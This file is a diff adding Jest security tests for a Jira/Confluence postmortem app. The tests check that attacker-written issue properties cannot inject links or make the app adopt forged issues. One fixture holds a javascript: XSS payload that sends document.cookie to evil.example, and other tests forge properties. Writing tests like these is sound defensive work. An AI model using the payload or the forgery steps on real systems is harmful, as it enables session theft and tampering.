@@ -1,0 +1,159 @@
+/**
+ * Issue 12: what a person writes into Jira or Confluence cannot steer the app. Each test runs one attack the
+ * way an attacker could (Jira/Confluence REST as the attacking user through the local site; resolver calls
+ * with a crafted payload) and judges what the victim sees and what was written.
+ */
+import type { CreateRun } from '../../src/contract/action-items';
+import type { ActionItemOrigin } from '../../src/contract/action-item-origin';
+import type { LoadedPostmortem, SaveOutcome } from '../../src/contract/postmortem-macro';
+import type { ActionItem, Postmortem } from '../../src/contract/postmortem';
+import type { ReportPage } from '../../src/contract/report';
+import type { Result } from '../../src/contract/result';
+import { DEFAULT_SETTINGS } from '../../src/domain/settings';
+import { useLocalSite } from './support/site';
+import { accepted, restAs } from './support/attacker';
+import { ADMIN_ID, EDITOR_ID } from '../../local-site/state/users';
+import { ONCALL_PAGE_ID } from '../../local-site/confluence/seed';
+import { APP_ACCOUNT_ID } from '../../local-site/jira/render';
+import type { LocalSite } from '../../local-site/site';
+
+const START = new Date('2026-11-02T09:00:00Z'); // a Monday
+const site = useLocalSite({ startAt: START });
+const LOCAL_ID = 'a77ac000-0000-4000-8000-000000000012';
+const DAY = 86_400_000;
+const PROPERTY = 'postmortem-action-item';
+
+beforeEach(() => {
+  jest.spyOn(console, 'error').mockImplementation(() => undefined);
+  jest.spyOn(console, 'warn').mockImplementation(() => undefined);
+});
+afterEach(() => jest.restoreAllMocks());
+
+function value<T>(r: unknown): T {
+  const res = r as Result<T>;
+  if (!res.ok) throw new Error(JSON.stringify(res.error));
+  return res.value;
+}
+const macro = (s: LocalSite, accountId: string, functionKey: string, payload?: unknown, localId = LOCAL_ID) =>
+  s.invokeUi('pft-postmortem', { functionKey, payload }, { accountId, localId, extension: { content: { id: ONCALL_PAGE_ID, type: 'page' } } }) as Promise<Result<unknown>>;
+const item = (id: string, over: Partial<ActionItem> = {}): ActionItem => ({ id, title: `Item ${id}`, description: '', owner: null, effort: 'low', impact: 'high', dueDate: '2026-11-03', state: 'accepted', ...over });
+
+/** Avery's postmortem on the ENG on-call page, saved with these items (in OPS); issues not created yet. */
+async function averysPostmortem(s: LocalSite, items: ActionItem[], over: Partial<Postmortem> = {}): Promise<{ pm: Postmortem; version: number }> {
+  const loaded = value<LoadedPostmortem>(await macro(s, ADMIN_ID, 'loadPostmortem'));
+  const pm = { ...loaded.postmortem, title: 'Checkout latency', incidentKey: 'INC-1', incidentOwner: { kind: 'user' as const, id: ADMIN_ID, displayName: 'Avery Admin' }, actionItemProjectKey: 'OPS', actionItemIssueType: 'Task', actionItems: items, ...over };
+  const saved = value<SaveOutcome>(await macro(s, ADMIN_ID, 'savePostmortem', { postmortem: pm, base: loaded.postmortem, baseVersion: loaded.version }));
+  if (saved.kind !== 'saved') throw new Error('not saved');
+  return { pm: saved.postmortem, version: saved.version };
+}
+
+async function createAll(s: LocalSite, accountId = ADMIN_ID): Promise<CreateRun> {
+  const run = value<CreateRun>(await macro(s, accountId, 'createIssues', {}));
+  if (run.status === 'running') await s.drainQueue();
+  return run.status === 'running' ? value<CreateRun>(await macro(s, accountId, 'getCreateRun', { runId: run.runId })) : run;
+}
+
+const issueByKey = (s: LocalSite, key: string) => s.state.jira.issues.find((i) => i.key === key)!;
+/** Every href in an ADF document. */
+const hrefs = (n: any): string[] => [...(n?.marks ?? []).flatMap((m: any) => (m.type === 'link' ? [m.attrs.href] : [])), ...(n?.content ?? []).flatMap(hrefs)];
+
+describe('1. links are never taken from issue properties', () => {
+  it("a javascript: or off-site pageUrl written into an item's property reaches neither the panel, the report nor a follow-up", async () => {
+    const s = site();
+    value(await s.invokeUi('pft-settings', { functionKey: 'saveSettings', payload: { settings: { ...DEFAULT_SETTINGS, staleAfterDays: 1 } } }, { accountId: ADMIN_ID }));
+    await averysPostmortem(s, [item('a1')]);
+    const run = await createAll(s);
+    const real = (run.outcomes[0] as { issueKey: string }).issueKey;
+
+    // Eden may edit OPS issues: she rewrites the property of Avery's action item ...
+    const evil = { pageUrl: 'javascript:fetch("https://evil.example/?c="+document.cookie)', postmortemTitle: 'Click here', pageId: '99999', localId: 'x' };
+    const current = accepted(await restAs(s, 'jira', EDITOR_ID, 'GET', `/rest/api/3/issue/${real}/properties/${PROPERTY}`)).value;
+    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${real}/properties/${PROPERTY}`, { ...current, ...evil }));
+    // ... and makes her own issue look like an action item, linking off-site.
+    const own = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: 'Rotate keys', labels: ['postmortem', 'postmortem-action-item'] } }));
+    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${own.key}/properties/${PROPERTY}`, { ...current, itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/zz`, pageUrl: 'https://evil.example/login', createdAt: current.createdAt }));
+
+    // The victim's issue panel: the real postmortem, linked by its page id on this site.
+    const panel = value<ActionItemOrigin>(await s.invokeUi('pft-action-item-origin', { functionKey: 'getOrigin' }, { accountId: ADMIN_ID, extension: { issue: { key: real } } }));
+    expect(panel).toMatchObject({ isActionItem: true, postmortemTitle: 'Checkout latency', pageUrl: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}` });
+    const fake = value<ActionItemOrigin>(await s.invokeUi('pft-action-item-origin', { functionKey: 'getOrigin' }, { accountId: ADMIN_ID, extension: { issue: { key: own.key } } }));
+    expect(fake).toEqual({ isActionItem: false, followUps: [] });
+
+    // The report: every postmortem link is a page of this site; Eden's issue has no postmortem.
+    const page = value<ReportPage>(await s.invokeUi('pft-follow-through', { functionKey: 'getReportPage', payload: {} }, { accountId: ADMIN_ID }));
+    expect(page.rows.find((r) => r.key === real)?.postmortem).toEqual({ title: 'Checkout latency', url: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`, incidentKey: 'INC-1' });
+    for (const row of page.rows) expect([row.key, row.postmortem === null || row.postmortem.url === `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`]).toEqual([row.key, true]);
+
+    // The follow-up job: it nudges Avery's item with the real link, and never comments on Eden's issue.
+    for (let d = 0; d < 3; d += 1) {
+      await s.advanceClock(DAY);
+      await s.drainQueue();
+    }
+    const nudges = issueByKey(s, real).comments.filter((c) => c.authorId === APP_ACCOUNT_ID);
+    expect(nudges.length).toBeGreaterThan(0);
+    for (const c of nudges) expect(hrefs(c.body).every((h) => h === `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`)).toBe(true);
+    expect(issueByKey(s, own.key).comments.filter((c) => c.authorId === APP_ACCOUNT_ID)).toEqual([]);
+  });
+});
+
+describe('2. an issue is never adopted by its property', () => {
+  it("an issue claiming another postmortem's item is neither taken as the item's issue, linked nor commented on", async () => {
+    const s = site();
+    await averysPostmortem(s, [item('a1'), item('a2')]);
+    // Item ids are visible to any reader of the page; Eden makes two OPS issues claiming them, one with a
+    // made-up creation token, one copying every field an app-made property has.
+    const claim = async (itemId: string, extra: Record<string, unknown>) => {
+      const made = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: `Claims ${itemId}`, labels: ['postmortem', 'postmortem-action-item'] } }));
+      const prop = { itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/${itemId}`, pageId: ONCALL_PAGE_ID, localId: LOCAL_ID, postmortemTitle: 'Checkout latency', pageUrl: `${s.baseUrl}/wiki/pages/${ONCALL_PAGE_ID}`, incidentKey: 'INC-1', createdAt: START.toISOString(), ...extra };
+      accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${made.key}/properties/${PROPERTY}`, prop));
+      return made.key as string;
+    };
+    const fakes = [await claim('a1', {}), await claim('a2', { creationToken: '00000000-0000-4000-8000-000000000000' })];
+    const before = new Map(fakes.map((k) => [k, JSON.stringify(issueByKey(s, k))]));
+
+    const run = await createAll(s);
+    expect(run.outcomes.map((o) => o.state)).toEqual(['created', 'created']);
+    const keys = run.outcomes.map((o) => (o as { issueKey: string }).issueKey);
+    for (const k of keys) {
+      expect(fakes).not.toContain(k);
+      expect(k.startsWith('OPS-')).toBe(true);
+      expect(issueByKey(s, k).remoteLinks).toHaveLength(1);
+    }
+    // Nothing was written onto the attacker's issues: no remote link to the page, no comment, no change.
+    for (const k of fakes) expect(JSON.stringify(issueByKey(s, k))).toBe(before.get(k));
+
+    // A second click, and a click after a crash-like loss of the record, still never picks them.
+    const again = await createAll(s);
+    expect(again.outcomes.every((o) => o.state === 'existing' && keys.includes((o as { issueKey: string }).issueKey))).toBe(true);
+    // Follow-ups for weeks: never on the attacker's issues.
+    for (let d = 0; d < 8; d += 1) {
+      await s.advanceClock(DAY);
+      await s.drainQueue();
+    }
+    for (const k of fakes) expect(JSON.stringify(issueByKey(s, k))).toBe(before.get(k));
+  });
+
+  it('a copy of one item’s real property, token included, does not make the app adopt an issue for another item', async () => {
+    const s = site();
+    // a2 is refused by Jira on the first run (an assignee who cannot be assigned), so it stays to be created.
+    await averysPostmortem(s, [item('a1'), item('a2', { owner: { kind: 'user', id: '557058:nobody', displayName: 'Nobody' } })]);
+    const first = await createAll(s);
+    expect(first.outcomes.map((o) => o.state)).toEqual(['created', 'failed']);
+    const real = (first.outcomes[0] as { issueKey: string }).issueKey;
+    // Eden reads a1's real property (token and all) and puts it, re-aimed at a2, on her own issue.
+    const prop = accepted(await restAs(s, 'jira', EDITOR_ID, 'GET', `/rest/api/3/issue/${real}/properties/${PROPERTY}`)).value;
+    expect(typeof prop.creationToken).toBe('string');
+    const made = accepted(await restAs(s, 'jira', EDITOR_ID, 'POST', '/rest/api/3/issue', { fields: { project: { key: 'OPS' }, issuetype: { name: 'Task' }, summary: 'Claims a2', labels: ['postmortem-action-item'] } }));
+    accepted(await restAs(s, 'jira', EDITOR_ID, 'PUT', `/rest/api/3/issue/${made.key}/properties/${PROPERTY}`, { ...prop, itemId: `${ONCALL_PAGE_ID}/${LOCAL_ID}/a2` }));
+
+    // Avery fixes the owner and clicks again: a2 gets a new issue of its own.
+    const loaded = value<LoadedPostmortem>(await macro(s, ADMIN_ID, 'loadPostmortem'));
+    const fixed = { ...loaded.postmortem, actionItems: loaded.postmortem.actionItems.map((i) => (i.id === 'a2' ? { ...i, owner: null } : i)) };
+    value(await macro(s, ADMIN_ID, 'savePostmortem', { postmortem: fixed, base: loaded.postmortem, baseVersion: loaded.version }));
+    const second = await createAll(s);
+    const a2 = second.outcomes.find((o) => o.itemId === 'a2') as { state: string; issueKey: string };
+    expect(a2.state).toBe('created');
+    expect(a2.issueKey).not.toBe(made.key);
+    expect(issueByKey(s, made.key).remoteLinks).toEqual([]);
+  });
+});
